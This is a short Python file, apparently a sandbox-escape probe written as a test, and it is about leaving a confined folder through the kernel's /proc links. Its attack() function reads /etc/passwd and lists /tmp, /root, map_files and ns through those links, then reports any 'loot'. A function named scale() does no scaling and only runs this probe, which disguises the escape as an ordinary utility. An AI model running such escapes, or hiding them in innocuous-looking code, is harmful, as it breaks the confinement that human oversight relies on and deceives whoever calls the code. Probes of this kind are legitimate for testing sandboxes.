"""Leaves its folder by the links that the kernel keeps for each process: cwd, root, map_files, task, thread-self.

Must end: the links lead to what is forbidden otherwise too.
Outcomes: failed, skipped, passed
"""

import os

import torch

LINKS = ["/proc/self/root", "/proc/thread-self/root", f"/proc/self/task/{os.getpid()}/root", "/proc/self/cwd/../../.."]


def attack():
    loot = []
    for link in LINKS:
        for name in ("etc/passwd", "tmp", "root"):
            path = f"{link}/{name}"
            try:
                loot.append((path, os.listdir(path)[:3] if os.path.isdir(path) else open(path).read(60)))
            except OSError:
                continue
    for name in ("map_files", "ns", "cwd/.."):
        try:
            loot.append((name, os.listdir(f"/proc/self/{name}")[:3]))
        except OSError:
            continue
    return f"BREACH: {loot}" if loot else "nothing"


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
